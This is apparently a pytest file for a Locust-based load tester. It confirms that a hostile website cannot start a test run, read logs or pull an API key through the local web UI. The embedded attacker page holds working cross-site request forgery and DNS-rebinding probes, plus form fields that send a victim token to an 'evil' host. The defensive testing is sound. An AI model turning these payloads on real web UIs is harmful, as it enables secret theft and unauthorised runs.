"""Another website plays against Locust's web UI in a real browser, and fails: nothing is started, sent or read."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests
from playwright.sync_api import expect
from watched import Watched

from fmload.base.resources import resource
from tests.load_rig import free_port, wait_until

SECRET = "zq7Kx9LmVictim2pQw8vNtR5yUe3"
PAGE = """<!doctype html><title>win a prize</title>
<form id=f method=post action="{target}/swarm">
{fields}
</form><iframe src="{target}/"></iframe><script>
async function tries() {{
  const body = new URLSearchParams(new FormData(f));
  const seen = [];
  for (const mode of ["no-cors", "cors"])
    await fetch("{target}/swarm", {{method: "POST", body, mode}}).then(
      async (answer) => seen.push([mode, answer.status, await answer.text()]),
      (error) => seen.push([mode, String(error)]));
  await new Promise((done) => {{
    const socket = new WebSocket(`ws://${{new URL("{target}/swarm", location).host}}/swarm`);
    socket.onopen = () => {{ seen.push(["websocket", 200]); done(); }};
    socket.onerror = () => done();
  }});
  await new Promise((done) => {{
    const image = new Image();
    image.onload = () => {{ seen.push(["image", 200]); done(); }};
    image.onerror = () => done();
    image.src = "{target}/assets/favicon-dark.png";
  }});
  navigator.sendBeacon("{target}/swarm", body);
  for (const path of ["/stats/requests", "/logs", "/fmload/settings.json", "/"])
    await fetch("{target}" + path).then(
      async (answer) => seen.push([path, answer.status, await answer.text()]),
      (error) => seen.push([path, String(error)]));
  return seen;
}}
</script>"""


class Server(ThreadingHTTPServer):
    """Serves one page, and remembers what it was sent."""

    page = ""

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        server: Any = self.server
        server.heard.append(f"{self.command} {self.path} {self.headers}")
        body = server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_: Any) -> None:
        pass


@contextmanager
def web_ui(folder: Path) -> Iterator[int]:
    """Locust with its web UI in one process, with a key in the environment and a host for it."""
    port = free_port()
    with (folder / "locust.log").open("w") as log:
        process = subprocess.Popen(
            [sys.executable, "-m", "locust", "-f", str(resource("locustfiles", "openai.py")), "--web-host", "127.0.0.1",
             "--web-port", str(port), "--host", "http://127.0.0.1:9/v1", "--fmload-api-key-env", "GIVEN_KEY"],
            stdout=log, stderr=log, cwd=folder, env={**os.environ, "VICTIM_TOKEN": SECRET, "GIVEN_KEY": SECRET})
        try:
            wait_until(lambda: _answers(port), 60, "the web UI")
            yield port
        finally:
            process.terminate()
            process.wait(20)


def _answers(port: int) -> bool:
    try:
        return requests.get(f"http://127.0.0.1:{port}/", timeout=2).ok
    except requests.RequestException:
        return False


FIELDS = {"user_count": "1", "spawn_rate": "1", "host": "http://127.0.0.1:{evil}/v1",
          "fmload_api_key_env": "VICTIM_TOKEN", "fmload_out": "{folder}/made", "fmload_model": "m",
          "fmload_parameters": '{{"x": "${{VICTIM_TOKEN}}"}}'}


def attacking_page(target: str, evil: int, folder: Path, left_out: tuple[str, ...] = ()) -> str:
    fields = "\n".join(f"<input name={name} value='{value.format(evil=evil, folder=folder)}'>"
                       for name, value in FIELDS.items() if name not in left_out)
    return PAGE.format(target=target, fields=fields)


LEFT_OUT = [(), ("fmload_api_key_env", "fmload_out", "fmload_parameters"), ("fmload_out",)]


@pytest.mark.parametrize("site", ["http://attacker.example:{own}", "http://localhost:{own}",
                                  "http://attacker.example:{target}"])
def test_a_website_starts_nothing_gets_no_key_and_reads_nothing(site: str, tmp_path: Path, watched: Watched) -> None:
    evil, attacker = Server(), Server()
    with web_ui(tmp_path) as port:
        target = f"http://127.0.0.1:{port}"
        rebound = "{target}" in site  # the attacker's name leads to the web UI itself by now
        for left_out in LEFT_OUT:
            attacker.page = attacking_page("" if rebound else target, evil.port, tmp_path, left_out)
            if rebound:  # what the page of that name would do, in a page of that name
                address = site.format(target=port)
                watched.page.route(f"{address}/win", lambda route: route.fulfill(
                    body=attacker.page, content_type="text/html"))
                watched.page.goto(f"{address}/win")
            else:
                watched.page.goto(f"{site.format(own=attacker.port)}/")
            seen = watched.page.evaluate("tries()")
            assert [told for told in seen if 200 in told] == []
            assert SECRET not in str(seen)
            with watched.page.expect_navigation():
                watched.page.evaluate("f.submit()")
            assert '"success":true' not in watched.page.content().replace(" ", "")
        state = requests.get(f"{target}/stats/requests", timeout=5).json()
        assert (state["state"], state["user_count"]) == ("ready", 0)
    assert evil.heard == []
    assert not [path for path in tmp_path.rglob("*") if path.name in ("made", "results")]
    evil.shutdown()
    attacker.shutdown()


def test_the_uis_own_form_shows_what_it_does_not_set_and_keeps_the_key_at_its_host(
        tmp_path: Path, watched: Watched) -> None:
    evil = Server()
    with web_ui(tmp_path) as port:
        page = watched.page
        page.goto(f"http://127.0.0.1:{port}/")
        expect(page.locator("#fmload-settings")).to_contain_text("--fmload-api-key-env")
        expect(page.locator("#fmload-settings")).to_contain_text("GIVEN_KEY")
        assert page.locator("[name=fmloadModel]").count() == 1  # the names are those of Locust's page
        assert page.locator("[name=fmloadApiKeyEnv], [name=fmloadOut], [name=fmloadConfig]").count() == 0
        page.locator("[name=host]").fill(f"http://127.0.0.1:{evil.port}/v1")
        with page.expect_response("**/swarm") as answered:
            page.get_by_role("button", name="Start").click()
        assert answered.value.json()["success"] is False
        expect(page.locator("#root form .MuiAlert-root")).to_contain_text("only sent to the host")
        with page.expect_response("**/fmload/try") as answered:
            page.get_by_role("button", name="Try the endpoint").click()
        assert answered.value.json()["success"] is False
        assert SECRET not in page.content()
        assert requests.get(f"http://127.0.0.1:{port}/stats/requests", timeout=5).json()["state"] == "ready"
    assert evil.heard == []
    evil.shutdown()
